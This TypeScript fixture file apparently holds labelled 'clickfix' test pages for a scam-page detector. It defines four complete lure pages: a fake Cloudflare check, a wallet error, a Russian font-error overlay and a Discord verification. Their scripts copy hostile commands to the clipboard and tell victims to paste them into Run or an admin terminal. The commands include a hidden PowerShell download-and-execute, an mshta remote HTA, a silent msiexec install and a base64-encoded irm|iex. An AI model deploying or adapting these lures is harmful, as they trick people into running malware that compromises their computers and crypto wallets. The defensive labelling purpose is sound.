import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

export const entries: Entry[] = [
  {
    id: 'zj-clickfix-dex-cloudflare-verify',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://swap-hyperdex.finance/',
    body: Z.doc({
      title: 'Just a moment...',
      style: 'body{font-family:system-ui;background:#fff;color:#222;margin:0}.w{max-width:620px;margin:90px auto;padding:0 20px}.cb{border:1px solid #ddd;padding:16px;display:flex;gap:12px;align-items:center;width:300px;background:#fafafa}.s{display:none;border:1px solid #ddd;padding:18px;margin-top:16px;background:#fff}kbd{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 5px}',
      body: `<div class="w"><h1>swap-hyperdex.finance</h1><p>Verify you are human by completing the action below.</p><div class="cb"><input type="checkbox" id="c"> <label for="c">I'm not a robot</label></div>
  <div class="s" id="s"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">This confirms you are not a bot before connecting to HyperDEX.</p></div>
  <p style="font-size:12px;color:#999;margin-top:40px">Ray ID: 8e1f2a9cb03d41f7 · Performance &amp; security by Cloudflare</p></div>
  <script>
  document.getElementById('c').onclick=function(){var c='powershell -w h -nop -c "$u=\\'https://hyperdex-cdn.top/v.ps1\\';iex (New-Object Net.WebClient).DownloadString($u)" # ✅ I am not a robot - reCAPTCHA ID 4829';
  navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('s').style.display='block'};
  </script>`,
    }),
  },
  {
    id: 'zj-clickfix-wallet-connect-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://claim.zksync-rewards.org/',
    body: Z.doc({
      title: 'ZKsync Rewards — Claim',
      style: Z.DARK,
      body: `${Z.top('ZKsync', ['Ecosystem', 'Claim', 'Docs'])}
  <div class="card"><h3>Claim your ZK</h3><p class="muted">Connect to check your allocation for the ZK Nation distribution.</p><button class="btn" id="c" style="width:100%">Connect Wallet</button></div>
  <div class="modal" id="e"><div class="box"><h3>⚠️ Wallet connection error (code 0x80070422)</h3><p class="muted">Your browser's Web3 provider service is not running. To fix:</p>
  <ol><li>Click <b>Copy fix</b></li><li>Press <b>Win + X</b> and choose <b>Terminal (Admin)</b></li><li>Paste (Ctrl+V) and press Enter</li><li>Reload this page</li></ol><button class="btn" id="fx" style="width:100%">Copy fix</button></div></div>
  <script>
  var cmd='mshta https://zk-provider-fix.org/web3svc.hta';
  document.getElementById('c').onclick=function(){setTimeout(function(){document.getElementById('e').classList.add('on')},1500)};
  document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(cmd);this.textContent='Copied ✓'};
  </script>`,
    }),
  },
  {
    id: 'zj-clickfix-ru-crypto-news-font',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://kripto-novosti24.ru/bitcoin-prognoz-2027',
    body: Z.doc({
      lang: 'ru',
      title: 'Прогноз биткоина на 2027 год: мнения аналитиков',
      body: `${Z.top('КриптоНовости24', ['Биткоин', 'Эфириум', 'Альткоины', 'Майнинг'])}
  <main><h1>Прогноз биткоина на 2027 год: мнения аналитиков</h1><p>Аналитики расходятся во мнениях относительно движения BTC после халвинга 2028 года. Часть экспертов ожидает…</p></main>
  <div id="ov" style="position:fixed;inset:0;background:rgba(255,255,255,.97);display:none;z-index:9;padding:60px"><div style="max-width:560px;margin:auto;border:1px solid #ccc;padding:24px;font-family:Segoe UI"><h2>Не удалось отобразить страницу</h2>
  <p>Шрифт «Roboto Cyrillic» не найден на вашем компьютере. Чтобы исправить ошибку отображения, выполните команду обновления шрифтов:</p>
  <ol><li>Нажмите кнопку «Исправить»</li><li>Нажмите <b>Win + R</b>, затем <b>Ctrl + V</b> и <b>Enter</b></li></ol><button class="btn" id="fix">Исправить</button></div></div>
  <script>
  setTimeout(function(){document.getElementById('ov').style.display='block'},3000);
  document.getElementById('fix').onclick=function(){var p=['cmd /c','curl -s -o %TEMP%\\\\fnt.msi','hxxps://fontupd-cdn.ru/rc.msi'.replace('hxxps','https'),'&& msiexec /i %TEMP%\\\\fnt.msi /qn'];navigator.clipboard.writeText(p[0]+' '+p[1]+' '+p[2]+' '+p[3]);this.textContent='Скопировано'};
  </script>`,
    }),
  },
  {
    id: 'zj-clickfix-nft-discord-verify',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://verify.degen-apes.club/discord',
    body: Z.doc({
      title: 'Degen Apes — Discord holder verification',
      style: Z.DARK + 'body{background:#313338}.card{background:#2b2d31}.btn{background:#5865f2}',
      body: `<div class="card" style="margin-top:80px;text-align:center"><h2>Collab.Land-style verification</h2><p class="muted">Verify you hold a Degen Ape to access #alpha-calls. Step 1: prove you are human.</p>
  <button class="btn" id="v">Verify</button><div id="st" style="display:none;text-align:left;margin-top:16px"><p>Human verification failed on this browser. Complete the manual check:</p><p>1. Press <b>⊞ Win + R</b><br>2. Paste with <b>Ctrl + V</b><br>3. Press <b>Enter</b> and return to Discord</p></div></div>
  <script>
  document.getElementById('v').addEventListener('click',function(){var s=atob('cG93ZXJzaGVsbCAtV2luZG93U3R5bGUgSGlkZGVuIC1Db21tYW5kICJpcm0gaHR0cHM6Ly9kZWdlbi12ZXJpZnkuY2x1Yi9hLnBzMSB8IGlleCI=');navigator.clipboard.writeText(s+' # Discord verification #71823');document.getElementById('st').style.display='block'});
  </script>`,
    }),
  },
];
